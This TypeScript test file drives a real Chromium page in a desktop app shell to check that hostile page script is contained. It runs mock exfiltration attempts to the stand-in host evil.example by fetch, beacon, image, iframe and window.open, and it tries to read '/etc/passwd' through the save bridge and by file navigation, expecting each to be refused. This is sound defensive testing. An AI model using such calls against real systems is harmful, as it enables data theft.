/**
 * A real Chromium page behind the shell's guards: what hostile script in the page can and cannot do. The
 * browser is real, the module `electron` is the stand-in.
 */
import { rmSync } from 'node:fs';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../../e2e/browser.ts';
import { standIn } from './electron-stand-in.ts';
import { preloadCode, type StartedShell, startOn, temporaryFolder } from './shell-fixture.ts';

const folder = temporaryFolder();
let browser: Browser;
let shell: StartedShell;
let page: Page;

beforeAll(async () => {
  browser = await launchBrowser();
  standIn.browser = browser;
  standIn.preloadCode = await preloadCode(folder);
  shell = await startOn(folder);
  if (!shell.window?.page) throw new Error('No page was opened.');
  page = shell.window.page;
});
afterAll(async () => {
  await browser.close();
  rmSync(folder, { recursive: true, force: true });
});

describe('the page in its window', () => {
  it('runs its own script and no inline one', async () => {
    await page.waitForFunction('window.moduleRan === true');
    expect(await page.evaluate('window.inlineRan')).toBeUndefined();
    expect(await page.evaluate('window.evaluated')).toBe('refused');
  });

  it('takes styles with the nonce of this response only', async () => {
    const style = await page.evaluate(`(() => {
      const { color, marginLeft } = getComputedStyle(document.querySelector('h1'));
      return { color, marginLeft };
    })()`);
    expect(style).toEqual({ color: 'rgb(1, 2, 3)', marginLeft: '0px' });
  });

  it('calls the engine with method and body', async () => {
    expect(await page.evaluate(`fetch('/health/live').then((answer) => answer.json())`)).toEqual({
      status: 'live',
    });
    const echo = `fetch('/ops/echo', { method: 'POST', body: 'figures' }).then((answer) => answer.text())`;
    expect(await page.evaluate(echo)).toBe('figures');
  });

  it('has the bridge of four functions, and nothing of Node or Electron', async () => {
    expect(await page.evaluate('Object.keys(window.fairview).sort()')).toEqual([
      'checkForUpdate',
      'openPage',
      'saveFile',
      'screenCapture',
    ]);
    expect(await page.evaluate('[typeof process, typeof require, typeof ipcRenderer]')).toEqual([
      'undefined',
      'undefined',
      'undefined',
    ]);
    expect(await page.evaluate('window.fairview.checkForUpdate()')).toEqual({
      ok: true,
      value: { state: 'OFF', version: null },
    });
    const hostile = await page.evaluate(`window.fairview.saveFile({ link: '/etc/passwd', fileName: 'a' })`);
    expect(hostile).toMatchObject({ ok: false, problem: { code: 'INVALID_INPUT' } });
  });

  it('cannot reach another origin by fetch, image, beacon, frame or socket', async () => {
    standIn.blocked.length = 0;
    const outcome = await page.evaluate(`(async () => {
      const tried = await fetch('https://evil.example/?data=1').then(() => 'reached', () => 'refused');
      navigator.sendBeacon?.('https://evil.example/beacon', 'data');
      const image = new Image();
      const imageOutcome = new Promise((resolve) => {
        image.onload = () => resolve('reached');
        image.onerror = () => resolve('refused');
      });
      image.src = 'https://evil.example/pixel.png';
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/frame';
      document.body.append(frame);
      return [tried, await imageOutcome];
    })()`);
    expect(outcome).toEqual(['refused', 'refused']);
  });

  it('cannot be sent elsewhere, nor open a window', async () => {
    const toldByShell = (address: string) => async () =>
      await expect.poll(() => standIn.blocked).toContain(`navigation ${address}`);
    // A local file is refused by the browser itself, which says so to the page.
    const toldByBrowser = () =>
      page.waitForEvent('console', (message) =>
        message.text().includes('Not allowed to load local resource'),
      );
    for (const [address, refused] of [
      ['https://evil.example/', toldByShell('https://evil.example/')],
      ['http://app.fairview.localhost/ops/echo', toldByShell('fairview://app/ops/echo')],
      ['file:///etc/passwd', toldByBrowser],
    ] as const) {
      const told = refused();
      await page.evaluate(`void (window.location.href = ${JSON.stringify(address)})`).catch(() => undefined);
      await told;
      expect(new URL(page.url()).href).toBe('http://app.fairview.localhost/');
      expect(await page.textContent('h1')).toBe('Clients');
    }
    await page.evaluate(`void window.open('https://evil.example/window')`).catch(() => undefined);
    await expect.poll(() => page.context().pages().length).toBe(1);
    expect(standIn.opened).toEqual([]);
    expect(standIn.blocked).toContain('navigation https://evil.example/');
    expect(standIn.blocked).toContain('navigation fairview://app/ops/echo');
  });
});
